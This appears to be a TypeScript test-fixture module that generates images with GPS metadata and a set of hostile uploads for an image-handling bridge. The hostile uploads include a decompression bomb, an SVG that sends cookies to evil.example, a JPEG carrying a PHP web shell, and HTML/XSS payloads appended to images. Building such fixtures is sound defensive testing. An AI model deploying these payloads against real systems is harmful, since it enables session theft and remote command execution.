// Real images made at test time with sharp, hostile files made by hand, and small readers that
// show what metadata a file carries. Nothing here trusts the code under test.
import { readFileSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

const RED = { r: 220, g: 30, b: 30 };
const BLUE = { r: 30, g: 50, b: 220 };

/** Where the GPS tags put the photographer: the kind of thing that must never leave the bridge. */
export const GPS_TAGS = {
  GPSLatitudeRef: 'N',
  GPSLatitude: '48/1 51/1 2400/100',
  GPSLongitudeRef: 'E',
  GPSLongitude: '2/1 21/1 700/100',
};

const CAMERA_TAGS = { Make: 'TestCam', Model: 'Phone 12', Software: 'test-suite', DateTime: '2025:06:01 10:00:00' };

/**
 * 60×40 as stored, left half red and right half blue, with EXIF orientation 6 ("turn 90°
 * clockwise to view"): upright it is 40×60, red on top, blue below. Carries camera tags and GPS.
 */
export async function jpegWithGpsAndOrientation(): Promise<Buffer> {
  return halves(60, 40).jpeg({ quality: 90 }).withExif({ IFD0: CAMERA_TAGS, IFD3: GPS_TAGS }).withMetadata({ orientation: 6 }).toBuffer();
}

/** 48×32 with transparency, EXIF (with GPS), XMP and a Display P3 ICC profile. */
export async function pngWithMetadata(): Promise<Buffer> {
  return halves(48, 32, 0.5).png().withExif({ IFD0: CAMERA_TAGS, IFD3: GPS_TAGS }).withXmp(XMP).withIccProfile('p3').toBuffer();
}

/** 48×32 WebP with EXIF (with GPS) and XMP. */
export async function webpWithMetadata(lossless = false): Promise<Buffer> {
  return halves(48, 32).webp({ quality: 90, lossless }).withExif({ IFD0: CAMERA_TAGS, IFD3: GPS_TAGS }).withXmp(XMP).toBuffer();
}

/**
 * sRGB's pure red, stored in Display P3 with its ICC profile: the pixels hold about (234, 51, 35),
 * which only reads as (255, 0, 0) through the profile.
 */
export async function p3Jpeg(): Promise<Buffer> {
  return sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 255, g: 0, b: 0 } } })
    .jpeg({ quality: 95 })
    .withIccProfile('p3')
    .toBuffer();
}

/** An animated GIF of `frames` frames (red, green, blue, …), each `width`×`height`. */
export async function animatedGif(frames = 3, width = 40, height = 30): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * frames * 4);
  for (let frame = 0; frame < frames; frame += 1) {
    for (let index = 0; index < width * height; index += 1) {
      const offset = (frame * width * height + index) * 4;
      pixels[offset + (frame % 3)] = 255;
      pixels[offset + 3] = 255;
    }
  }
  return sharp(pixels, { raw: { width, height: height * frames, channels: 4, pageHeight: height } })
    .gif({ delay: Array<number>(frames).fill(100), loop: 0 })
    .toBuffer();
}

/** An animated WebP of `frames` frames, each `width`×`height`, lossless or not. */
export async function animatedWebp(frames = 3, width = 40, height = 30, lossless = false): Promise<Buffer> {
  const gif = await animatedGif(frames, width, height);
  return sharp(gif, { animated: true }).webp({ lossless, quality: 90 }).toBuffer();
}

/** A still JPEG of noise, `width`×`height`. */
export async function noiseJpeg(width: number, height: number, quality = 90): Promise<Buffer> {
  // Noise made at an eighth of the size and enlarged: grainy like a photo, but it stays a few
  // megabytes instead of compressing to nothing or growing past the size limit.
  const small = sharp({
    create: {
      width: Math.ceil(width / 8),
      height: Math.ceil(height / 8),
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  });
  const seed = await small.png().toBuffer();
  return sharp(seed).resize(width, height, { kernel: 'cubic' }).jpeg({ quality }).toBuffer();
}

let largePhoto: Promise<Buffer> | undefined;

/** The benchmark's photo: 4000×3000 (12 megapixels), about 3 MB. Made once per process. */
export function largePhotoJpeg(): Promise<Buffer> {
  largePhoto ??= noiseJpeg(4000, 3000);
  return largePhoto;
}

/**
 * 96×64, red over blue, HEVC-coded, with EXIF camera tags and GPS. sharp cannot encode (or
 * decode) HEVC, so this one is a fixture: made for this project with libheif's heif-enc (x265)
 * from a JPEG written by sharp with the tags above.
 */
export function heicSample(): Buffer {
  return readFileSync(new URL('../fixtures/images/red-over-blue-gps.heic', import.meta.url));
}

// ---- The hostile set.

/** A real, well-formed PNG that declares 100000×100000 pixels (10 gigapixels) in 10 kB. */
export function decompressionBombPng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, deflate, no interlace
  const zeros = deflateSync(Buffer.alloc(10 * 1024 * 1024), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', zeros), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small real JPEG whose frame header is rewritten to declare 65000×65000 pixels. */
export async function hugeDimensionsJpeg(): Promise<Buffer> {
  const jpeg = Buffer.from(await halves(16, 16).jpeg().toBuffer());
  const sof = findJpegMarker(jpeg, 0xc0);
  jpeg.writeUInt16BE(65_000, sof + 5);
  jpeg.writeUInt16BE(65_000, sof + 7);
  return jpeg;
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
      '<rect width="100" height="100" fill="red"/></svg>\n',
  );
}

/** What an attacker uploads as `photo.jpg` with `Content-Type: image/jpeg`. */
export function htmlNamedJpg(): Buffer {
  return Buffer.from('<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>\n');
}

export function pdfDocument(): Buffer {
  return Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
}

/** A complete JPEG followed by an HTML page: an image to a decoder, a page to a sniffing browser. */
export async function jpegWithHtmlAppended(): Promise<Buffer> {
  return Buffer.concat([await halves(32, 32).jpeg().toBuffer(), Buffer.from(HTML_PAYLOAD)]);
}

/** A JPEG with a PHP web shell in a comment (COM) segment: a valid image, and a valid PHP file. */
export async function jpegWithPhpComment(): Promise<Buffer> {
  const jpeg = await halves(32, 32).jpeg().toBuffer();
  const payload = Buffer.from('<?php system($_GET["c"]); ?>');
  const segment = Buffer.alloc(4 + payload.length);
  segment.set([0xff, 0xfe], 0);
  segment.writeUInt16BE(payload.length + 2, 2);
  payload.copy(segment, 4);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

/** Like an Ultra HDR or MPF phone photo: a second complete JPEG stream after the first. */
export async function jpegWithSecondaryImage(): Promise<Buffer> {
  return Buffer.concat([await halves(32, 32).jpeg().toBuffer(), await halves(8, 8).jpeg().toBuffer()]);
}

/** A real photo cut off at 60 %, as an interrupted upload leaves it. */
export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await noiseJpeg(320, 240);
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
}

export async function pngWithTrailingData(): Promise<Buffer> {
  return Buffer.concat([await halves(16, 16).png().toBuffer(), Buffer.from(HTML_PAYLOAD)]);
}

/** A PNG whose pixel chunk has a wrong checksum. */
export async function pngWithBadChecksum(): Promise<Buffer> {
  const png = Buffer.from(await halves(16, 16).png().toBuffer());
  const idat = png.indexOf('IDAT', 8, 'latin1');
  const length = png.readUInt32BE(idat - 4);
  png.writeUInt32BE((png.readUInt32BE(idat + 4 + length) ^ 0xffffffff) >>> 0, idat + 4 + length);
  return png;
}

export async function gifWithTrailingData(): Promise<Buffer> {
  return Buffer.concat([await animatedGif(2), Buffer.from(HTML_PAYLOAD)]);
}

/** An animated GIF with an SVG in a comment extension, just before its trailer. */
export async function gifWithSvgComment(): Promise<Buffer> {
  const gif = await animatedGif(2);
  const text = Buffer.from('<svg onload="alert(1)"/>');
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, text.length]), text, Buffer.from([0x00])]);
  return Buffer.concat([gif.subarray(0, gif.length - 1), comment, gif.subarray(gif.length - 1)]);
}

/** AVIF: a HEIF file, and one sharp could decode, but not a type the chat accepts. */
export async function avifImage(): Promise<Buffer> {
  return halves(16, 16).avif().toBuffer();
}

export async function tiffImage(): Promise<Buffer> {
  return halves(16, 16).tiff().toBuffer();
}

// ---- Readers, for the tests' assertions.

export interface ExifSummary {
  /** Tag ids of the first IFD (0x0112 is the orientation, 0x8825 points at the GPS IFD). */
  ifd0: number[];
  /** Tag ids of the GPS IFD (1–4: latitude and longitude with their references). */
  gps: number[];
}

/** Reads the tag ids of an EXIF block as sharp's metadata returns it ("Exif\0\0" + TIFF). */
export function readExif(exif: Buffer): ExifSummary {
  const tiff = exif.toString('latin1', 0, 6) === 'Exif\0\0' ? exif.subarray(6) : exif;
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number): number => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number): number => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const tags = (ifd: number): Map<number, number> => {
    const entries = new Map<number, number>();
    for (let index = 0; index < u16(ifd); index += 1) {
      const entry = ifd + 2 + index * 12;
      entries.set(u16(entry), u32(entry + 8));
    }
    return entries;
  };
  const ifd0 = tags(u32(4));
  const gpsOffset = ifd0.get(0x8825);
  return { ifd0: [...ifd0.keys()], gps: gpsOffset === undefined ? [] : [...tags(gpsOffset).keys()] };
}

/** The markers of a JPEG's segments up to its first scan, e.g. [0xe0, 0xdb, 0xc0, 0xc4, 0xda]. */
export function jpegMarkers(jpeg: Buffer): number[] {
  const markers: number[] = [];
  let position = 2;
  while (position + 4 <= jpeg.length && jpeg[position] === 0xff) {
    const marker = jpeg[position + 1]!;
    markers.push(marker);
    if (marker === 0xda) break;
    position += 2 + jpeg.readUInt16BE(position + 2);
  }
  return markers;
}

/** The chunk types of a PNG, in order. */
export function pngChunks(png: Buffer): string[] {
  const chunks: string[] = [];
  for (let position = 8; position + 8 <= png.length; position += 12 + png.readUInt32BE(position)) {
    chunks.push(png.toString('latin1', position + 4, position + 8));
  }
  return chunks;
}

/** The chunk fourccs of a WebP (RIFF) file, in order. */
export function webpChunks(webp: Buffer): string[] {
  const chunks: string[] = [];
  for (let position = 12; position + 8 <= webp.length;) {
    const size = webp.readUInt32LE(position + 4);
    chunks.push(webp.toString('latin1', position, position + 4));
    position += 8 + size + (size & 1);
  }
  return chunks;
}

/** The colour of one pixel of a decoded image. */
export async function pixelAt(image: Buffer, x: number, y: number): Promise<{ r: number; g: number; b: number }> {
  const { data, info } = await sharp(image).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  const offset = (y * info.width + x) * info.channels;
  return { r: data[offset]!, g: data[offset + 1]!, b: data[offset + 2]! };
}

export function isRed(colour: { r: number; g: number; b: number }): boolean {
  return colour.r > 150 && colour.g < 100 && colour.b < 100;
}

export function isBlue(colour: { r: number; g: number; b: number }): boolean {
  return colour.b > 150 && colour.r < 100 && colour.g < 120;
}

// ---- Helpers.

const XMP =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
  '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Jane Customer"/></rdf:RDF></x:xmpmeta>';

const HTML_PAYLOAD = '<html><body><script>alert(document.cookie)</script></body></html>\n';

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** Left half red, right half blue, optionally translucent. */
function halves(width: number, height: number, alpha?: number): Sharp {
  const channels = alpha === undefined ? 3 : 4;
  const pixels = Buffer.alloc(width * height * channels);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const colour = x < width / 2 ? RED : BLUE;
      pixels.set([colour.r, colour.g, colour.b], (y * width + x) * channels);
      if (alpha !== undefined) pixels[(y * width + x) * channels + 3] = Math.round(alpha * 255);
    }
  }
  return sharp(pixels, { raw: { width, height, channels } });
}

function pngChunk(type: string, data: Buffer): Buffer {
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write(type, 4, 'latin1');
  data.copy(chunk, 8);
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + data.length)), 8 + data.length);
  return chunk;
}

function findJpegMarker(jpeg: Buffer, marker: number): number {
  let position = 2;
  while (position + 4 <= jpeg.length) {
    if (jpeg[position + 1] === marker) return position;
    position += 2 + jpeg.readUInt16BE(position + 2);
  }
  throw new Error(`no JPEG marker 0x${marker.toString(16)}`);
}
